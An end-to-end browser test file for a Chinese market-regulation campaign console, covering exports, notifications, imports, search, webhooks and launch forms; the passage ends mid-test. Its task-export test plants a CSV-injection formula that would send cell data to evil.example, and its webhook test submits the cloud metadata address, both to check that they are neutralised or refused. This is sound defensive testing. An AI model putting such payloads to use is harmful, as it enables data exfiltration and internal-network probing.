// The console's shared tools in Debian's Chromium: the CSV a roster page downloads holds exactly
// the roster's entries (a 黑榜 of two filed cases), and the case page shows its timeline, its holders and the
// Temporal link; a coordinator's 催办 reaches the station officer's notification bell, and reading it lowers
// the badge; the coordinator exports selected tasks as CSV (a formula-like name neutralised); the app-bar
// search finds an operator by the start of its 统一社会信用代码; a coordinator sets up and removes a
// jurisdiction's webhook (an inward URL is refused with its reason on the field). The launch form shows each
// programme kind's own settings (Zhoushan's criterion points by rubric group, periods as a number and a unit,
// the list quota; Changxing's weights), sends only that kind's, and shows the API's reason for a wrong sum on
// the group; the campaign page has each kind's tabs (the award and 红黑榜 only for a staged award). A stage
// closed early that the API answers with 202 (still closing) shows as closed once it is, without a reload.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { demoUscc } from '../prisma/seed.js';
import { ARTIFACTS, openConsole, untilRoute, type Console } from './helpers-browser.js';
import { startHarness, uniqueYear, waitFor, type Harness } from './helpers.js';
import { startApi, TEST_TEMPORAL_UI, type Api } from './api-helpers.js';
import { calendarOpenAt } from './helpers-campaign.js';
import { shanghaiSpec } from './helpers-programmes.js';
import { UI_DIR } from '../api/server.js';
import { BUILT_IN } from '../domain/programmes/index.js';

const enc = encodeURIComponent;
const q = (filter: object) => `filter=${enc(JSON.stringify(filter))}`;
let h: Harness;
let api: Api;
let ui: Console;
const signIn = (username: string) => ui.signIn(username);
const tokens: Record<string, string> = {};
const launchedHere: string[] = [];

const as = (user: string) => ({ token: tokens[user]! });
const post = (user: string, p: string, body?: unknown) => api.call('POST', p, { ...as(user), body });
const get = (user: string, p: string) => api.call('GET', p, as(user));

/** Operators of the 雉城 station (officer.zhicheng's), in a stable order. */
const zhichengOperators = () => h.db.operator.findMany({ where: { jurisdictionId: '330522001', id: { startsWith: 'op-cx-' } }, orderBy: { id: 'asc' } });

/** A Changxing campaign of coord.changxing with `openKey` open now for ten minutes. */
async function launch(openKey: string, operatorIds: string[]): Promise<string> {
  const r = await post('coord.changxing', '/campaigns', {
    programme: 'changxing',
    year: await uniqueYear(h.db),
    jurisdictionId: '330522',
    stages: calendarOpenAt(openKey, 600_000),
    reminderLeadHours: 0,
    operatorIds,
  });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  return r.body.id as string;
}

/** Reads a download of the page as text, checking for the UTF-8 BOM Excel needs. */
async function downloadedCsv(page: Page, click: () => Promise<void>): Promise<{ name: string; rows: string[][] }> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  const file = await download.path();
  const bytes = readFileSync(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows: string[][] = parse(bytes.subarray(3).toString('utf8'), { relax_column_count: false });
  return { name: download.suggestedFilename(), rows };
}

/** The number on the app bar's badge (empty when there is nothing unread). */
const badge = async (page: Page) => Number((await page.textContent('[data-testid="notification-unread"]'))?.trim() || 0);

beforeAll(async () => {
  h = await startHarness();
  api = await startApi(h, UI_DIR);
  for (const u of ['coord.changxing', 'officer.zhicheng', 'leader.changxing', 'coord.zhoushan', 'coord.lijiang']) tokens[u] = await api.login(u);
  ui = await openConsole(api.url);
});
afterAll(async () => {
  // Campaigns launched here with the programme's calendar wait for stages a century away.
  for (const c of await h.db.campaign.findMany({ where: { id: { in: launchedHere } } })) {
    await h.env.client.workflow
      .getHandle(c.workflowId)
      .terminate('test done')
      .catch(() => {});
    await h.env.client.workflow
      .getHandle(`register-scoring-${c.id}`)
      .terminate('test done')
      .catch(() => {});
  }
  await ui?.close();
  await api?.close();
  await h?.stop();
});

describe('console tools', () => {
  it('downloads a 黑榜 as the CSV of its entries, and shows a filed case’s timeline', async () => {
    const [a, b] = await zhichengOperators();
    // 红黑榜 are published once the award is final or while 总结提升 is open (the programme's rule): 集中治理
    // is open now for 6 s, 评价公示 a second after it, then 总结提升 for ten minutes. An inspection done
    // after its stage closed still counts (late).
    const t0 = Date.now();
    const at = (ms: number) => new Date(t0 + ms).toISOString();
    const calendar = [
      ['mobilization', -5000, -4000],
      ['self_check', -3000, -2000],
      ['rectification', -500, 6000],
      ['evaluation', 7000, 8000],
      ['summary', 9000, 600_000],
    ] as const;
    const launched = await post('coord.changxing', '/campaigns', {
      programme: 'changxing',
      year: await uniqueYear(h.db),
      jurisdictionId: '330522',
      stages: calendar.map(([key, s, d]) => ({ key, startsAt: at(s), dueAt: at(d) })),
      reminderLeadHours: 0,
      operatorIds: [a!.id, b!.id],
    });
    expect(launched.status, JSON.stringify(launched.body)).toBe(201);
    const campaignId = launched.body.id as string;
    const cases = [`${campaignId}:${a!.id}`, `${campaignId}:${b!.id}`];

    // Two serious findings (四、（三）: 过期食品) file both cases: they make the black list.
    const inspections = await waitFor(async () => {
      const t = await h.db.task.findMany({ where: { campaignId, type: 'inspection', status: 'open' }, orderBy: { caseId: 'asc' } });
      return t.length === 2 && t;
    }, 'the two inspection tasks');
    for (const t of inspections) {
      const r = await post('officer.zhicheng', `/tasks/${enc(t.id)}/complete`, {
        method: 'sampling',
        areas: [{ key: 'quality', finding: 'serious', description: '抽检发现过期食品' }],
        violation: 'expired_food',
      });
      expect(r.status, JSON.stringify(r.body)).toBe(200);
    }
    await waitFor(async () => (await h.db.case.count({ where: { id: { in: cases }, excludedKind: 'filed' } })) === 2, 'both cases filed');
    await waitFor(() => h.db.stage.findFirst({ where: { campaignId, key: 'summary', status: 'open' } }), 'the 总结提升 stage open');
    const published = await post('coord.changxing', `/campaigns/${enc(campaignId)}/rosters`, { kind: 'black' });
    expect(published.status, JSON.stringify(published.body)).toBe(201);
    const roster = (await get('leader.changxing', `/rosters/${enc(published.body.id)}`)).body;
    expect(roster.entries).toHaveLength(2);

    const page = await signIn('coord.changxing');
    await page.goto(`${api.url}/#/rosters/${enc(roster.id)}/show`);
    await page.waitForSelector('[data-testid="roster-entries"]');
    const csv = await downloadedCsv(page, () => page.click('[data-testid="roster-csv"]'));
    expect(csv.name).toBe(`${roster.id.replaceAll(':', '_')}.csv`); // Chromium keeps no ':' in file names
    expect(csv.rows[0]).toEqual(['序号', '经营主体', '统一社会信用代码', '辖区', '赛道', '总分', '依据/说明', '日期']);
    type Entry = {
      operatorName: string;
      uscc: string;
      jurisdictionName: string;
      track: string | null;
      totalScore: number | null;
      ground?: string;
      groundName?: string;
      since?: string;
    };
    const expected = (roster.entries as Entry[]).map((e, i) =>
      [i + 1, e.operatorName, e.uscc, e.jurisdictionName, e.track ?? '', e.totalScore ?? '', e.groundName ?? e.ground ?? '', e.since ?? ''].map(String),
    );
    expect(csv.rows.slice(1)).toEqual(expected);
    expect(csv.rows.slice(1).map((r) => r[6])).toEqual(['立案查处：过期食品', '立案查处：过期食品']);
    await page.screenshot({ path: `${ARTIFACTS}/console-roster-csv.png`, fullPage: true });
    // Its Excel twin: the same lines, the 序号 and score as numbers, the sheet named for the list.
    const [xlsxDownload] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="roster-xlsx"]')]);
    expect(xlsxDownload.suggestedFilename()).toBe(`${roster.id.replaceAll(':', '_')}.xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(await xlsxDownload.path());
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('黑榜 第1期');
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(csv.rows[0]);
    expect([2, 3].map((r) => [sheet.getRow(r).getCell(1).value, sheet.getRow(r).getCell(2).value, sheet.getRow(r).getCell(7).value])).toEqual(
      expected.map((e) => [Number(e[0]), e[1], e[6]]),
    );

    // The case page: its history oldest first with the filing in words, and its workflow in Temporal.
    const timeline = (await get('leader.changxing', `/cases/${enc(cases[0]!)}/timeline`)).body;
    await page.goto(`${api.url}/#/cases/${enc(cases[0]!)}/show`);
    await page.waitForSelector('[data-testid="case-timeline"] [data-testid="timeline-entry"]');
    const actions = await page.locator('[data-testid="timeline-entry"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-action')));
    expect(actions).toEqual(timeline.entries.map((e: { action: string }) => e.action));
    expect(actions).toContain('case.enrolled');
    const text = await page.textContent('[data-testid="case-timeline"]');
    expect(text).toContain('纳入专项行动');
    expect(text).toContain('完成任务 · 检查');
    expect(text).toContain('立案查处');
    expect(await page.textContent('[data-testid="case-holders"]')).toContain('当前环节');
    // The Temporal Web UI link is an admin's only: a coordinator's page has none, an admin's timeline has it.
    expect(await page.locator('[data-testid="case-workflow-link"]').count()).toBe(0);
    expect(timeline.workflowUrl).toBeNull();
    const forAdmin = (await api.call('GET', `/cases/${enc(cases[0]!)}/timeline`, { token: await api.login('admin.changxing') })).body;
    expect(forAdmin.workflowUrl).toBe(`${TEST_TEMPORAL_UI}/namespaces/default/workflows/${enc(forAdmin.workflowId)}`);
    await page.screenshot({ path: `${ARTIFACTS}/console-case-timeline.png`, fullPage: true });
    await page.close();
    await h.env.client.workflow.getHandle(`campaign-${campaignId}`).terminate('test done');
  });

  it('a 催办 reaches the station officer’s bell; opening it marks it read and lowers the badge', async () => {
    const [op] = await zhichengOperators();
    // 集中治理 open: the station's inspection is staff's work, reminded and assigned (the self-check before
    // it is the operator's own, never assigned to staff).
    const campaignId = await launch('rectification', [op!.id]);
    const task = await waitFor(() => h.db.task.findFirst({ where: { campaignId, type: 'inspection', status: 'open' } }), 'the inspection task');
    expect(task.jurisdictionId).toBe('330522001');

    // One reminder per open task per day.
    expect((await post('coord.changxing', '/tasks/remind', { taskIds: [task.id] })).body).toEqual({ reminded: 1, alreadyToday: 0 });
    expect((await post('coord.changxing', '/tasks/remind', { taskIds: [task.id] })).body).toEqual({ reminded: 0, alreadyToday: 1 });
    const reminder = (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find(
      (n: { taskId: string }) => n.taskId === task.id,
    );
    expect(reminder).toMatchObject({ read: false, kind: 'reminder' });

    const page = await signIn('officer.zhicheng');
    await page.waitForSelector('[data-testid="notification-bell"]');
    await page.waitForFunction(() => Number(document.querySelector('[data-testid="notification-unread"]')?.textContent?.trim() || 0) >= 1);
    const before = await badge(page);
    expect(before).toBeGreaterThanOrEqual(1);
    await page.click('[data-testid="notification-bell"]');
    // This reminder's own item: other files remind the same officer of the same operator's inspection in
    // campaigns of other years, under the same title.
    const item = page.locator(`[data-testid="notification-item"][data-notification="${reminder.id}"]`);
    await item.waitFor();
    expect(await item.textContent()).toContain(`催办：${task.title}`);
    expect(await item.getAttribute('data-read')).toBe('false');
    await page.screenshot({ path: `${ARTIFACTS}/console-notifications.png`, fullPage: true });
    // The badge shows what the page last fetched once the read was answered (other files notify this
    // officer at the same time, so the number itself may be anything). Told by the order of the page's
    // responses, not by their timings: a refetch may start before the read's last byte is logged.
    let readAnswered = false;
    let countedAfterRead: number | undefined;
    let responses = 0;
    let latest = 0;
    page.on('response', (r) => {
      const path = new URL(r.url()).pathname;
      if (path === `/api/notifications/${enc(reminder.id)}/read`) readAnswered = true;
      else if (path === '/api/notifications/unread-count' && readAnswered) {
        const seq = ++responses;
        void r.json().then(
          (body: { unread: number }) => {
            if (seq > latest) [latest, countedAfterRead] = [seq, body.unread];
          },
          () => undefined, // the page closed first
        );
      }
    });
    await item.click();
    await untilRoute(page, (hash) => hash === `#/tasks/${enc(task.id)}/show`);
    const read = await waitFor(
      async () =>
        (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find(
          (n: { id: string; read: boolean }) => n.id === reminder.id && n.read,
        ),
      'the reminder read',
    );
    expect(read.read).toBe(true);
    await waitFor(async () => countedAfterRead !== undefined && (await badge(page)) === countedAfterRead, 'the badge to show the count fetched after the read');
    await page.screenshot({ path: `${ARTIFACTS}/console-notification-opened.png`, fullPage: true });
    // The list page: the reminder is there, read now.
    await page.goto(`${api.url}/#/notifications?${q({ kind: 'reminder', campaignId })}`);
    const row = page.locator('tbody tr.RaDatagrid-row', { hasText: `催办：${task.title}` });
    await row.waitFor();
    expect(await row.locator('[data-testid="notification-unread-chip"]').count()).toBe(0);
    await page.screenshot({ path: `${ARTIFACTS}/console-notification-list.png`, fullPage: true });
    await page.close();

    // The coordinator exports the campaign's tasks (select all, 导出所选): CSV with a BOM, Chinese headers.
    // An operator name a spreadsheet would run as a formula (OWASP CSV injection) is written as text, with a
    // leading '. (Set on the task's copy of the name: the seeded operator is shared with other suites.)
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
    await h.db.task.update({
      where: { id: task.id },
      data: { details: { ...(task.details as object), operatorName: formula, operatorUscc: '+8613800000000' } },
    });
    const coord = await signIn('coord.changxing');
    await coord.goto(`${api.url}/#/tasks?${q({ campaignId, status: 'open', type: 'inspection' })}`);
    await coord.waitForSelector('tbody tr.RaDatagrid-row');
    await coord.locator('thead input[type="checkbox"]').check();
    const csv = await downloadedCsv(coord, () => coord.click('[data-testid="tasks-export"]'));
    expect(csv.name).toMatch(/^任务-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(csv.rows[0]!.slice(0, 4)).toEqual(['编号', '任务名称', '任务类型', '阶段']);
    expect(csv.rows.slice(1).map((r) => [r[0], r[1], r[2]])).toEqual([[task.id, task.title, '检查']]);
    expect(csv.rows[1]!.slice(4, 6)).toEqual([`'${formula}`, "'+8613800000000"]);
    await h.db.task.update({ where: { id: task.id }, data: { details: task.details as object } });

    // 指派 the selection to the station officer: the dialog lists who may take it; the list shows the name.
    await coord.click('[data-testid="tasks-assign"]');
    await coord.click('[data-testid="assignee-officer.zhicheng"]');
    await coord.screenshot({ path: `${ARTIFACTS}/console-assign.png`, fullPage: true });
    await coord.click('[data-testid="assign-confirm"]');
    await waitFor(async () => (await h.db.task.findUniqueOrThrow({ where: { id: task.id } })).claimedById === 'u-officer-zhicheng', 'the task assigned');
    const officerName = (await h.db.user.findUniqueOrThrow({ where: { id: 'u-officer-zhicheng' } })).displayName;
    await coord.waitForSelector(`tbody tr.RaDatagrid-row td.column-claimedByName:has-text("${officerName}")`);
    expect((await get('officer.zhicheng', `/notifications?${q({ kind: 'assignment', campaignId })}`)).body.map((n: { taskId: string }) => n.taskId)).toContain(
      task.id,
    );
    await coord.close();
    await h.env.client.workflow.getHandle(`campaign-${campaignId}`).terminate('test done');
  });

  it('imports the register from an Excel workbook in the import dialog, whose Excel template it downloads', async () => {
    // Zhoushan's register: a Changxing launch of a whole county would enrol an operator imported without a track.
    const page = await signIn('coord.zhoushan');
    await page.goto(`${api.url}/#/operators`);
    await page.click('[data-testid="operators-import"]');
    // The blank template, from the API: the columns the import reads.
    const [template] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="operators-csv-template-xlsx"]')]);
    expect(template.suggestedFilename()).toBe('经营主体导入模板.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(await template.path());
    // Filled in as a bureau would: a date typed as a date.
    const uscc = demoUscc('330902', 971);
    book.worksheets[0]!.addRow(['定海表格直播间', uscc, '直播间', '330902', new Date(Date.UTC(2024, 4, 6)), '', '否', '否']);
    await page.setInputFiles('[data-testid="operators-csv-file"]', {
      name: '经营主体名录.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      buffer: Buffer.from(await book.xlsx.writeBuffer()),
    });
    await page.click('[data-testid="operators-csv-upload"]');
    expect(await page.locator('[data-testid="operators-csv-result"]').textContent()).toContain('新登记 1 家');
    await page.screenshot({ path: `${ARTIFACTS}/console-import-xlsx.png`, fullPage: true });
    expect(await h.db.operator.findUniqueOrThrow({ where: { uscc } })).toMatchObject({
      name: '定海表格直播间',
      kind: 'live_room',
      jurisdictionId: '330902',
    });
    await page.close();
  });

  it('exports a list as Excel beside its CSV: the list’s own column names, moments as dates, numbers as numbers', async () => {
    // A campaign of this file's, so the list has one whatever ran before.
    launchedHere.push(await launch('self_check', [(await zhichengOperators())[0]!.id]));
    const page = await signIn('coord.changxing');
    await page.goto(`${api.url}/#/campaigns`);
    await page.locator('.RaDatagrid-row').first().waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="export-xlsx"]')]);
    expect(download.suggestedFilename()).toBe('campaigns.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(await download.path());
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('专项行动');
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    expect(header).toEqual(expect.arrayContaining(['名称', '年度', '启动时间']));
    // No nested record (a campaign's whole definition) spills into columns.
    expect(header.some((h) => h.includes('.'))).toBe(false);
    const col = (name: string) => header.indexOf(name) + 1;
    const campaigns = (await get('coord.changxing', '/campaigns?range=[0,999]')).body as { name: string; year: number; launchedAt: string }[];
    const first = sheet.getRow(2);
    const same = campaigns.find((c) => c.name === first.getCell(col('名称')).value)!;
    expect(first.getCell(col('年度')).value).toBe(same.year);
    // The launch moment in Shanghai wall time, as the console shows it.
    expect((first.getCell(col('启动时间')).value as Date).getTime()).toBe(Date.parse(same.launchedAt) + 8 * 3_600_000);
    await page.close();
  });

  it('finds an operator by the start of its 统一社会信用代码 from the app bar and opens its page', async () => {
    const operators = await h.db.operator.findMany({ where: { jurisdictionId: { startsWith: '330522' } }, orderBy: { id: 'asc' } });
    const target = operators.find((o) => o.id === 'op-cx-013') ?? operators[0]!;
    // The shortest prefix (from 8 characters) that no other operator of the county shares.
    let prefix = target.uscc.slice(0, 8);
    while (operators.some((o) => o.id !== target.id && o.uscc.startsWith(prefix))) prefix = target.uscc.slice(0, prefix.length + 1);

    const page = await signIn('coord.changxing');
    await page.fill('[data-testid="app-search"]', prefix.toLowerCase());
    const hit = page.locator(`[data-testid="search-result"][data-path="/operators/${enc(target.id)}/show"]`);
    await hit.waitFor();
    expect(await hit.textContent()).toContain(target.name);
    // The viewport only: a full-page capture resizes the page, and the results' popup may close with it
    // before the click (seen once in a full run).
    await page.screenshot({ path: `${ARTIFACTS}/console-search.png` });
    await hit.click();
    await untilRoute(page, (hash) => hash === `#/operators/${enc(target.id)}/show`);
    await page.waitForFunction((uscc) => document.body.textContent?.includes(uscc), target.uscc);
    await page.close();
  });

  it('a coordinator sets up a station’s webhook on its page and removes it', async () => {
    const page = await signIn('coord.changxing');
    // 泗安所: not 煤山所 (330522006), whose webhook the fuzz and access-matrix suites expect untouched meanwhile.
    const jid = '330522005';
    await page.goto(`${api.url}/#/jurisdictions/${jid}/show`);
    await page.waitForSelector('[data-testid="webhook-card"] [data-testid="webhook-form"]');
    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'https://hooks.example.invalid/campaign');
    await page.fill('[data-testid="webhook-form"] input[name="secret"]', 'short');
    await page.click('[data-testid="webhook-save"]');
    expect(await page.textContent('[data-testid="webhook-form"]')).toContain('密钥至少 16 个字符');
    await page.fill('[data-testid="webhook-form"] input[name="secret"]', 'a-secret-of-24-characters');
    // An address inside the network (here the cloud metadata service) is refused by the API: the reason shows on the field.
    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'http://169.254.169.254/latest/meta-data/');
    await page.click('[data-testid="webhook-save"]');
    await page.waitForSelector('[data-testid="webhook-form"] :text("云主机元数据服务")');
    expect((await get('coord.changxing', `/jurisdictions/${jid}/webhook`)).status).toBe(404);
    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'https://hooks.example.invalid/campaign');
    await page.click('[data-testid="webhook-save"]');
    await page.waitForSelector('[data-testid="webhook-state"]:has-text("已启用")');
    const saved = await get('coord.changxing', `/jurisdictions/${jid}/webhook`);
    expect(saved.body).toMatchObject({ jurisdictionId: jid, url: 'https://hooks.example.invalid/campaign', enabled: true, secretSet: true });
    await page.screenshot({ path: `${ARTIFACTS}/console-webhook.png`, fullPage: true });

    await page.click('[data-testid="webhook-delete"]');
    await page.click('.MuiDialog-root button.ra-confirm');
    await page.waitForSelector('[data-testid="webhook-state"]:has-text("未配置")');
    expect((await get('coord.changxing', `/jurisdictions/${jid}/webhook`)).status).toBe(404);
    await page.close();
  });
});

/** Picks `option` of the MUI select or autocomplete labelled `label` (typing `typed` first, for an autocomplete). */
async function choose(page: Page, label: string, option: string | RegExp, typed?: string) {
  const input = page.getByLabel(label).first();
  if (typed) await input.fill(typed);
  else await input.click();
  await page
    .getByRole('option', { name: option, exact: typeof option === 'string' })
    .first()
    .click();
}

/** The launch form with `programme` chosen, once its settings are shown. */
async function launchForm(user: string, programme: string): Promise<Page> {
  const page = await signIn(user);
  await page.goto(`${api.url}/#/campaigns/create`);
  await choose(page, '活动项目', programme);
  await page.waitForSelector('[data-testid="settings-inputs"]');
  return page;
}

/** Year and jurisdiction, then 启动 and, once the API's preview accepts it, 确认启动; the year is returned. */
async function submitLaunch(page: Page, jurisdiction: RegExp, typed: string): Promise<number> {
  const year = await uniqueYear(h.db);
  await page.fill('input[name="year"]', String(year));
  await choose(page, '辖区', jurisdiction, typed);
  await page.click('[data-testid="launch-button"]');
  await page.waitForSelector('[data-testid="launch-confirm"], [data-testid="launch-problem"]');
  if (await page.locator('[data-testid="launch-confirm"]').count()) await page.click('[data-testid="launch-confirm"]');
  return year;
}

/** The tabs of a campaign's page, by their path (overview: ''). */
async function campaignTabs(page: Page, campaignId: string): Promise<string[]> {
  await page.goto(`${api.url}/#/campaigns/${enc(campaignId)}/show`);
  // 概况 shows at once; the kind's tabs once the campaign is read (every kind has at least one).
  await page.waitForSelector('[role="tablist"] [role="tab"]:nth-child(2)');
  const hrefs = await page.locator('[role="tablist"] [role="tab"]').evaluateAll((els) => els.map((e) => e.getAttribute('href') ?? ''));
  return hrefs.map((href) => /\/show\/?(.*)$/.exec(href)?.[1] ?? href);
}

describe('the launch form and the campaign page per programme kind', () => {
  const zhoushan = BUILT_IN.zhoushan;

  it('launches a Zhoushan campaign with changed criterion points and list quota: the campaign’s settings hold them', async () => {
    const page = await launchForm('coord.zhoushan', zhoushan.name);
    // Its own settings: the twelve criteria in the rubric's four groups, none of Changxing's.
    for (const g of zhoushan.application.rubric) expect(await page.locator(`[data-testid="criteria-${g.key}"] input`).count()).toBe(g.criteria.length);
    expect(await page.locator('[data-testid="criterion-points"] input').count()).toBe(12);
    expect(await page.locator('[data-testid^="weights-"]').count()).toBe(0);
    expect(await page.locator('input[name="settings.awardThreshold"]').count()).toBe(0);
    // Defaults from the programme; the pre-review period as a number of days, never as ISO 8601 text.
    expect(await page.inputValue('input[name="settings.criterionPoints.lawful"]')).toBe('9');
    expect(await page.inputValue('input[name="settings.listQuota"]')).toBe('20');
    expect(await page.getAttribute('[data-testid="criterion-points-sum"]', 'data-sum')).toBe('100');
    // Periods are chosen from a list in words (campaigns/settings/DurationChoice.tsx), not typed.
    expect(await page.textContent('[data-testid="duration-choice-settings.preReviewPeriod"]')).toBe('10 天');
    expect(await page.textContent('[data-testid="settings-inputs"]')).not.toMatch(/P\d+[DMY]|ISO 8601/);

    // 12 + 5 instead of 9 + 8 keeps the total at 100; 15 rooms on the list; 15 days to pre-review.
    await page.fill('input[name="settings.criterionPoints.lawful"]', '12');
    await page.fill('input[name="settings.criterionPoints.managed"]', '5');
    await page.fill('input[name="settings.listQuota"]', '15');
    await page.click('[data-testid="duration-choice-settings.preReviewPeriod"]');
    await page.click('[role="option"][data-value="P15D"]');
    expect(await page.getAttribute('[data-testid="criterion-points-sum"]', 'data-sum')).toBe('100');
    const year = await submitLaunch(page, /^舟山市/, '舟山');
    const id = `zhoushan-330900-${year}`;
    launchedHere.push(id);
    await untilRoute(page, (hash) => hash.startsWith(`#/campaigns/${enc(id)}/show`));
    await page.screenshot({ path: `${ARTIFACTS}/console-launch-zhoushan.png`, fullPage: true });

    const campaign = (await get('coord.zhoushan', `/campaigns/${enc(id)}`)).body;
    expect(campaign.kind).toBe('application');
    expect(campaign.definition.settings).toEqual({
      criterionPoints: { ...zhoushan.defaults.settings.criterionPoints, lawful: 12, managed: 5 },
      preReviewPeriod: 'P15D',
      listThreshold: 80,
      listQuota: 15,
      evaluationPeriodMonths: null,
    });
    await page.close();
  });

  it('shows the API’s reason for a wrong sum of criterion points on the group, and its reason for no list limit on the input', async () => {
    const page = await launchForm('coord.zhoushan', zhoushan.name);
    await page.fill('input[name="settings.criterionPoints.lawful"]', '20');
    // The live total shows the sum at once; the rule is the API's (domain/programmes/kinds/application.ts).
    await page.waitForSelector('[data-testid="criterion-points-sum"][data-sum="111"]');
    await page.fill('input[name="settings.listThreshold"]', '');
    await page.fill('input[name="settings.listQuota"]', '');
    const year = await submitLaunch(page, /^舟山市/, '舟山');
    const sum = page.locator('[data-testid="server-field-error"][data-path="settings.criterionPoints"]');
    await sum.waitFor();
    expect(await sum.textContent()).toBe('十二项评审分值合计须为 100，现为 111');
    // A problem of one setting shows under its input (paths settings.<field>).
    const helper = await page.getAttribute('input[name="settings.listThreshold"]', 'aria-describedby');
    await page.waitForSelector(`[id="${helper}"]:has-text("须设定入库分数线或名额（或两者）")`);
    await page.screenshot({ path: `${ARTIFACTS}/console-launch-wrong-sum.png`, fullPage: true });
    expect(await h.db.campaign.count({ where: { programme: 'zhoushan', year } })).toBe(0);
    await page.close();
  });

  it('the Changxing form still shows its weights per track, its title validity chosen from a list (or as a number and unit), and none of another kind’s', async () => {
    const changxing = BUILT_IN.changxing;
    const page = await launchForm('coord.changxing', changxing.name);
    const dimensions = changxing.scoring.groups.flatMap((g) => g.dimensions);
    for (const t of changxing.tracks) {
      expect(await page.locator(`[data-testid="weights-${t.key}"] input`).count()).toBe(dimensions.length);
      for (const d of dimensions)
        expect(await page.inputValue(`input[name="settings.weights.${t.key}.${d.key}"]`)).toBe(String(changxing.defaults.settings.weights[t.key]![d.key]));
    }
    expect(await page.inputValue('input[name="settings.awardThreshold"]')).toBe('85');
    expect(await page.textContent('[data-testid="duration-choice-settings.titleValidity"]')).toBe('1 年');
    // 其他… shows an amount and a unit for any other period.
    await page.click('[data-testid="duration-choice-settings.titleValidity"]');
    await page.getByRole('option', { name: '其他…' }).click();
    expect(await page.inputValue('[data-testid="duration-amount-settings.titleValidity"]')).toBe('1');
    expect(await page.textContent('[data-testid="duration-unit-settings.titleValidity"]')).toBe('年');
    expect(await page.locator('[data-testid="criterion-points"]').count()).toBe(0);
    await page.screenshot({ path: `${ARTIFACTS}/console-launch-changxing.png`, fullPage: true });
    // Another programme, then back: each starts from its own defaults (a changed weight is not carried over).
    await page.fill(`input[name="settings.weights.live_marketing.${dimensions[0]!.key}"]`, '1');
    await choose(page, '活动项目', zhoushan.name);
    await page.waitForSelector('[data-testid="settings-inputs"][data-kind="application"]');
    expect(await page.locator('[data-testid^="weights-"]').count()).toBe(0);
    await choose(page, '活动项目', changxing.name);
    await page.waitForSelector('[data-testid="settings-inputs"][data-kind="staged_award"]');
    expect(await page.inputValue(`input[name="settings.weights.live_marketing.${dimensions[0]!.key}"]`)).toBe(
      String(changxing.defaults.settings.weights.live_marketing![dimensions[0]!.key]),
    );
    await page.close();
  });

  it('closes a stage early; answered 202 (still closing), the page shows the stage closed once it is, without a reload', async () => {
    const [op] = await zhichengOperators();
    const id = await launch('self_check', [op!.id]);
    launchedHere.push(id);
    // The page reads the campaign once: its close button shows only if 自查自纠 is open by then.
    await waitFor(() => h.db.stage.findFirst({ where: { campaignId: id, key: 'self_check', status: 'open' } }), 'the 自查自纠 stage open');
    const page = await signIn('coord.changxing');
    // The API answers 202 at once when the request will not wait (RFC 7240 Prefer: wait=0, api/README.md).
    let answered202 = false;
    await page.route('**/api/campaigns/*/stages/*/close', async (route) => {
      const response = await route.fetch({ headers: { ...route.request().headers(), prefer: 'wait=0' } });
      answered202 = response.status() === 202;
      await route.fulfill({ response });
    });
    // A close of a few cases is done before the page reads the campaign again; the first reads after the
    // 202 are given the campaign as it was, as a close of thousands of cases would leave it for a while.
    const stale = new Map<string, string>();
    const campaignPaths = [`/api/campaigns/${enc(id)}`, `/api/campaigns/${enc(id)}/progress`];
    await page.route(
      (url) => campaignPaths.includes(url.pathname),
      async (route) => {
        const url = route.request().url();
        const before = stale.get(url);
        if (answered202 && before !== undefined) {
          stale.set(url, '');
          if (before) return route.fulfill({ status: 200, contentType: 'application/json', body: before });
        }
        const response = await route.fetch();
        if (!answered202) stale.set(url, await response.text());
        return route.fulfill({ response });
      },
    );
    await page.goto(`${api.url}/#/campaigns/${enc(id)}/show`);
    const row = page.locator('[data-testid="stage-self_check"]');
    await row.locator('[data-testid="close-stage-self_check"]').click();
    await page.fill('[data-testid="stage-action-reason"]', '自查已全部完成，提前结束');
    const answered = page.waitForResponse((r) => r.url().endsWith('/close'));
    await page.click('[data-testid="stage-action-confirm"]');
    expect((await answered).status()).toBe(202);
    await page.getByText('正在结束阶段').waitFor();
    await row.locator('[data-testid="close-stage-self_check"]').waitFor({ state: 'detached' });
    expect(await row.textContent()).toContain('已结束');
    expect((await h.db.stage.findFirstOrThrow({ where: { campaignId: id, key: 'self_check' } })).status).toBe('closed');
    await page.close();
  });

  it('the campaign page has each kind’s tabs: the award and 红黑榜 only for a staged award', async () => {
    const year = () => uniqueYear(h.db);
    const launch = async (user: string, body: object) => {
      const r = await post(user, '/campaigns', body);
      expect(r.status, JSON.stringify(r.body)).toBe(201);
      launchedHere.push(r.body.id);
      return r.body.id as string;
    };
    const definedId = `sh_tabs_${Date.now()}`;
    expect((await post('coord.changxing', '/programmes', shanghaiSpec(definedId))).status).toBe(201);
    const ids = {
      staged_award: await launch('coord.changxing', { programme: 'changxing', year: await year(), jurisdictionId: '330522' }),
      application: await launch('coord.zhoushan', { programme: 'zhoushan', year: await year(), jurisdictionId: '330900' }),
      register: await launch('coord.lijiang', { programme: 'lijiang', year: await year(), jurisdictionId: '530700' }),
